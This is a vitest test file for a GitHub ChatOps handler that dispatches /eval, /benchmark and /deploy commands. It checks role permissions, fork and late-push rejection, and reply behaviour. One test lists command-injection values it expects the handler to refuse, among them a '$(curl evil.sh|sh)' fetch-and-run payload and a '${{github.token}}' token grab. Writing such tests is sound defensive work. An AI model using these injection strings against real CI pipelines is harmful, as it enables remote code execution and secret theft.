import { mkdtemp, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { createCommandCommand } from '../../../src/chatops/command.js'
import { githubPort } from '../../../src/chatops/github-port.js'
import { memoryLogger } from '../../../src/core/logger.js'
import { startGitHubDouble, type GitHubDouble } from '../../doubles/github/server.js'
import { doubleClient, doubleEnv } from '../../helpers/github.js'
import { commentEvent, REPO, reviewCommentEvent } from './payloads.js'

const HEAD = '1111111111111111111111111111111111111111'
const FORK_HEAD = '2222222222222222222222222222222222222222'

let double: GitHubDouble
let dir: string

beforeEach(async () => {
  double = await startGitHubDouble()
  dir = await mkdtemp(path.join(tmpdir(), 'llmops-chatops-'))
  const t0 = Date.parse('2026-03-01T10:00:00Z')
  let tick = 0
  // A clock that moves one second per timestamp, so "pushed before/after the comment" is explicit.
  double.state.now = () => new Date(t0 + 1000 * tick++)
  double.state.seedPull({ repo: REPO, number: 1, headSha: HEAD })
  double.state.seedCheckSuite(REPO, HEAD)
  double.state.seedPull({
    repo: REPO,
    number: 2,
    headSha: FORK_HEAD,
    headRepo: 'mallory/Hello-World',
  })
  double.state.seedCheckSuite(REPO, FORK_HEAD)
  double.state.setPermission('admin-user', 'admin')
  double.state.setPermission('maintainer', 'maintain')
  double.state.setPermission('writer', 'write')
  double.state.setPermission('triager', 'triage')
  double.state.setPermission('reader', 'read')
})

afterEach(async () => {
  await double.close()
})

async function run(payload: unknown, options: { config?: string; eventName?: string } = {}) {
  const eventFile = path.join(dir, `event-${Math.random().toString(16).slice(2)}.json`)
  await writeFile(eventFile, JSON.stringify(payload))
  const argv = ['--event', eventFile]
  if (options.config !== undefined) {
    const configFile = path.join(dir, 'llmops.yml')
    await writeFile(configFile, options.config)
    argv.push('--config', configFile)
  }
  const logger = memoryLogger()
  const command = createCommandCommand((_ctx, trigger) =>
    githubPort(
      doubleClient(double),
      { owner: trigger.repo.owner, repo: trigger.repo.name },
      { logger, selfLogin: 'github-actions[bot]' },
    ),
  )
  const result = await command.run({
    argv,
    env: {
      ...doubleEnv(double),
      GITHUB_EVENT_NAME: options.eventName ?? 'issue_comment',
      GITHUB_REPOSITORY: REPO,
    },
    cwd: dir,
    stdout: process.stdout,
    logger,
    signal: new AbortController().signal,
    inAction: false,
  })
  return { result, logger }
}

const dispatchCount = () =>
  double.state.requestsFor('repos/create-dispatch-event').length +
  double.state.requestsFor('actions/create-workflow-dispatch').length

function replies(pr = 1) {
  return double.state.commentsOn(REPO, pr).filter((c) => c.user.login === 'github-actions[bot]')
}

function reactionsOn(commentId: number) {
  return (
    double.state.comments.find((c) => c.id === commentId)?.reactions.map((r) => r.content) ?? []
  )
}

describe('llmops command against the GitHub double', () => {
  it("an admin's /eval with no config: one repository_dispatch pinned to the head, reactions, reply and check run", async () => {
    const event = commentEvent(double, { body: 'Reviewed.\n/eval', login: 'admin-user' })
    const { result } = await run(event)
    expect(result.exitCode).toBe(0)
    expect(result.outputs).toEqual({ command: 'eval', sha: HEAD, dispatched: 'true' })

    const dispatches = double.state.requestsFor('repos/create-dispatch-event')
    expect(dispatches).toHaveLength(1)
    const body = dispatches[0]!.body as {
      event_type: string
      client_payload: Record<string, unknown>
    }
    expect(body.event_type).toBe('llmops-eval')
    expect(body.client_payload).toMatchObject({
      command: 'eval',
      sha: HEAD,
      pr: 1,
      comment_id: event.comment.id,
      actor: 'admin-user',
      args: {},
    })
    expect(Object.keys(body.client_payload).length).toBeLessThanOrEqual(10)

    expect(reactionsOn(event.comment.id)).toEqual(['eyes', 'rocket'])
    const reply = replies()
    expect(reply).toHaveLength(1)
    expect(reply[0]!.body).toMatch(/^<!-- llmops:v1 kind=command key=eval -->\n/)
    expect(reply[0]!.body).toContain(HEAD)
    expect(reply[0]!.body).toContain('/actions?query=event%3Arepository_dispatch')

    expect(double.state.checkRuns).toEqual([
      expect.objectContaining({
        name: 'llmops/eval',
        headSha: HEAD,
        status: 'queued',
        externalId: `llmops-eval-pr1-c${String(event.comment.id)}`,
      }),
    ])
    expect(body.client_payload.check_run_id).toBe(double.state.checkRuns[0]!.id)
  })

  it.each([
    ['reader', '/eval', 'needs the write role'],
    ['triager', '/benchmark', 'your role is triage'],
    ['stranger', '/eval', 'your role is read'],
  ])('%s asking %s: zero dispatches and a polite reply', async (login, body, reason) => {
    const event = commentEvent(double, { body, login })
    const { result } = await run(event)
    expect(result.outputs?.dispatched).toBe('false')
    expect(dispatchCount()).toBe(0)
    expect(replies()[0]!.body).toContain(reason)
    expect(reactionsOn(event.comment.id)).toEqual(['eyes', 'confused'])
  })

  it('a user with no access on a private repository is refused (the lookup 404s, which denies)', async () => {
    double.state.setRepo(REPO, { private: true })
    const { result } = await run(commentEvent(double, { body: '/eval', login: 'outsider' }))
    expect(result.exitCode).toBe(3)
    expect(dispatchCount()).toBe(0)
    expect(replies()[0]!.body).toContain('the permission check failed')
  })

  it('a write user asking /deploy production is refused', async () => {
    const config = 'version: 1\ncommands:\n  deploy:\n    environments: [staging, production]\n'
    await run(commentEvent(double, { body: '/deploy production', login: 'writer' }), { config })
    expect(dispatchCount()).toBe(0)
    expect(replies()[0]!.body).toContain('needs the maintain role')
  })

  it('a maintainer deploys an allowed environment through the configured workflow, with the run linked', async () => {
    // The webhooks example repository's default branch is master.
    double.state.setRepo(REPO, { defaultBranch: 'master', branches: { master: 'f'.repeat(40) } })
    double.state.seedWorkflow({ repo: REPO, path: '.github/workflows/deploy.yml' })
    const config =
      'version: 1\ncommands:\n  deploy:\n    environments: [staging]\n    workflow: deploy.yml\n'
    const { result } = await run(
      commentEvent(double, { body: '/deploy staging', login: 'maintainer' }),
      { config },
    )
    expect(result.outputs).toEqual({ command: 'deploy', sha: HEAD, dispatched: 'true' })
    const [request] = double.state.requestsFor('actions/create-workflow-dispatch')
    expect(request!.body).toMatchObject({
      ref: 'master',
      return_run_details: true,
      inputs: { sha: HEAD, environment: 'staging', pr: '1' },
    })
    const run0 = double.state.checkRuns[0]!
    expect(run0.name).toBe('llmops/deploy (staging)')
    expect(run0.detailsUrl).toMatch(/\/actions\/runs\/\d+$/)
    expect(replies()[0]!.body).toContain(run0.detailsUrl)
  })

  it.each([
    ['a bot', { body: '/eval', login: 'dependabot[bot]', type: 'Bot' as const }],
    ['an edited comment', { body: '/eval', login: 'admin-user', action: 'edited' as const }],
    ['a deleted comment', { body: '/eval', login: 'admin-user', action: 'deleted' as const }],
    ['a plain issue', { body: '/eval', login: 'admin-user', onIssue: true }],
    ['a command in a code block', { body: '```\n/eval\n```', login: 'admin-user' }],
    ['a command in a quote', { body: '> /eval\n\nthanks', login: 'admin-user' }],
    ['a command in inline code', { body: 'try `/eval`', login: 'admin-user' }],
  ])('%s: ignored, zero dispatches, no reply', async (_label, options) => {
    const { result } = await run(commentEvent(double, options))
    expect(result.exitCode).toBe(0)
    expect(result.outputs?.dispatched).toBe('false')
    expect(dispatchCount()).toBe(0)
    expect(replies()).toEqual([])
    expect(double.state.requests.filter((r) => r.method !== 'GET')).toEqual([])
  })

  it('a push after the comment is rejected', async () => {
    const event = commentEvent(double, { body: '/eval', login: 'admin-user' })
    // The new head reaches GitHub after the comment was written.
    const newHead = '3333333333333333333333333333333333333333'
    double.state.now = () => new Date(Date.parse(event.comment.created_at) + 60_000)
    double.state.seedPull({ repo: REPO, number: 1, headSha: newHead })
    double.state.seedCheckSuite(REPO, newHead)
    await run(event)
    expect(dispatchCount()).toBe(0)
    expect(replies()[0]!.body).toContain('new commits were pushed after your comment')
    expect(replies()[0]!.body).toContain(newHead)
  })

  it('a fork pull request without sha= is rejected; with the head sha it is dispatched', async () => {
    await run(commentEvent(double, { body: '/eval', login: 'admin-user', pr: 2 }))
    expect(dispatchCount()).toBe(0)
    expect(replies(2)[0]!.body).toContain('comes from a fork')
    await run(commentEvent(double, { body: `/eval sha=${FORK_HEAD}`, login: 'admin-user', pr: 2 }))
    expect(dispatchCount()).toBe(1)
    expect(replies(2)).toHaveLength(1) // the same sticky reply, updated
    expect(replies(2)[0]!.body).toContain('Started')
  })

  it.each([
    ['$(...)', '/eval suite=$(curl evil.sh|sh)'],
    ['backticks', '/eval suite=`id`'],
    ['${{ }}', '/eval suite=${{github.token}}'],
    ['an escaped newline', '/eval suite="a\\nb"'],
    ['a newline inside quotes', '/eval suite="a\n$(id)"'],
    ['a second line with a command', '/eval\n/deploy production'],
  ])(
    'an admin comment with %s is rejected and nothing reaches a dispatch',
    async (_label, body) => {
      const { result } = await run(commentEvent(double, { body, login: 'admin-user' }))
      expect(result.outputs?.dispatched).toBe('false')
      expect(dispatchCount()).toBe(0)
      const reply = replies()[0]!.body
      expect(reply).not.toMatch(/\$\(|\$\{\{|`id`/)
    },
  )

  it('/help answers anyone with the configured names', async () => {
    const config = [
      'version: 1',
      'commands:',
      '  deploy:',
      '    environments: [staging]',
      'providers:',
      '  candidate: { base_url: "http://127.0.0.1:1/v1", model: m }',
      'suites:',
      '  - { name: support-qa, cases: [{ input: hi }], metrics: [exact_match] }',
    ].join('\n')
    await run(commentEvent(double, { body: '/help', login: 'stranger' }), { config })
    const body = replies()[0]!.body
    expect(body).toContain('`support-qa`')
    expect(body).toContain('`staging`')
    expect(dispatchCount()).toBe(0)
  })

  it('reads a command from a review comment and replies on the conversation', async () => {
    const event = reviewCommentEvent({
      body: '/benchmark',
      login: 'writer',
      createdAt: new Date(Date.parse('2026-03-01T12:00:00Z')).toISOString(),
    })
    const { result } = await run(event, { eventName: 'pull_request_review_comment' })
    expect(result.outputs).toEqual({ command: 'benchmark', sha: HEAD, dispatched: 'true' })
    const [dispatch] = double.state.requestsFor('repos/create-dispatch-event')
    expect(dispatch!.body).toMatchObject({
      event_type: 'llmops-benchmark',
      client_payload: { actor: 'writer', sha: HEAD },
    })
    expect(replies()[0]!.body).toContain('Started')
  })

  it("a refused user cannot overwrite the reply that links a maintainer's run", async () => {
    await run(commentEvent(double, { body: '/eval', login: 'admin-user' }))
    await run(commentEvent(double, { body: '/eval', login: 'reader' }))
    const bodies = replies().map((c) => c.body)
    expect(bodies).toHaveLength(2)
    expect(bodies[0]).toContain('Started')
    expect(bodies[1]).toContain('needs the write role')
    expect(dispatchCount()).toBe(1)
  })
})
